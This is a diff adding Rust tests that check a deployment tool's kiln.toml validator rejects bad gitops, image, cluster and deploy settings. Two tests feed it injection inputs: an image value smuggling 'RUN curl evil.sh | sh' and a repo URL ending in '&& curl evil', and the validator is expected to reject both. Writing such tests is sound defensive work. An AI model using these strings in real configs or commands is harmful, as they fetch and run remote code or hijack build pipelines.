@@ -606,3 +606,108 @@ fn alert_thresholds_are_checked() {
         assert!(stderr.contains(expected), "{expected}: {stderr}");
     }
 }
+
+#[test]
+fn gitops_needs_a_repository() {
+    let config = HEAD.replace(
+        "registry = \"ghcr.io/acme/shop\"\n",
+        "registry = \"ghcr.io/acme/shop\"\ngitops = \"argocd\"\n",
+    );
+    rejected_with(
+        &config,
+        "error: `project.gitops` is set, so `project.repo_url` is required\n \
+         --> kiln.toml:4:10\n  |\n4 | gitops = \"argocd\"\n  |          ^^^^^^^^\n  \
+         = hint: add `repo_url = \"https://github.com/your-org/your-app.git\"` to `[project]`: \
+         Argo CD reads `deploy/<env>` from that repository\n",
+    );
+}
+
+#[test]
+fn base_images_must_be_pinned_and_plain() {
+    for image in [
+        "node:latest",
+        "node",
+        "node:22\nRUN curl evil.sh | sh",
+        "node:${TAG}",
+    ] {
+        let config = format!(
+            "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\nbuild_image = {image:?}\n"
+        );
+        let stderr = rejected(&config);
+        assert!(
+            stderr.starts_with(&format!(
+                "error: image `{image}` in `services.users.build_image` has no pinned tag\n"
+            )),
+            "{stderr}"
+        );
+    }
+}
+
+#[test]
+fn base_images_only_for_built_services() {
+    let config = format!(
+        "{HEAD}[services.cache]\nimage = \"redis:7.2\"\nport = 6379\nruntime_image = \"redis:7.2\"\n"
+    );
+    let stderr = rejected(&config);
+    assert!(
+        stderr.starts_with(
+            "error: `services.cache.runtime_image` only applies to services built from source\n"
+        ),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn argocd_keys_need_gitops() {
+    let config = HEAD.replace(
+        "[environments.dev]\n",
+        "[environments.dev]\nauto_sync = true\ncluster = \"https://k8s.example.com\"\n",
+    );
+    let stderr = rejected(&config);
+    assert!(
+        stderr.contains(
+            "error: `environments.dev.auto_sync` only applies when `project.gitops` is set\n"
+        ),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains(
+            "error: `environments.dev.cluster` only applies when `project.gitops` is set\n"
+        ),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn urls_and_branches_that_could_break_a_pipeline() {
+    let config = HEAD.replace(
+        "registry = \"ghcr.io/acme/shop\"\n",
+        "registry = \"ghcr.io/acme/shop\"\ngitops = \"argocd\"\nrepo_url = \"https://x.example.com/a.git' && curl evil\"\nbranch = \"main\\nmalicious: true\"\n",
+    )
+    .replace("[environments.dev]\n", "[environments.dev]\ncluster = \"http://plain.example.com\"\n");
+    let stderr = rejected(&config);
+    for expected in [
+        "in `project.repo_url` is not a git repository URL",
+        "in `project.branch` is not a usable branch name",
+        "`http://plain.example.com` in `environments.dev.cluster` is not a cluster API server URL",
+    ] {
+        assert!(stderr.contains(expected), "{expected}\n{stderr}");
+    }
+    assert!(
+        stderr.ends_with("3 problems in `kiln.toml`; nothing was written\n"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn deploy_on_takes_push_or_tag() {
+    let config = HEAD.replace(
+        "[environments.dev]\n",
+        "[environments.dev]\ndeploy_on = \"merge\"\n",
+    );
+    let stderr = rejected(&config);
+    assert!(
+        stderr.starts_with("error: `environments.dev.deploy_on` cannot be `merge`\n"),
+        "{stderr}"
+    );
+}
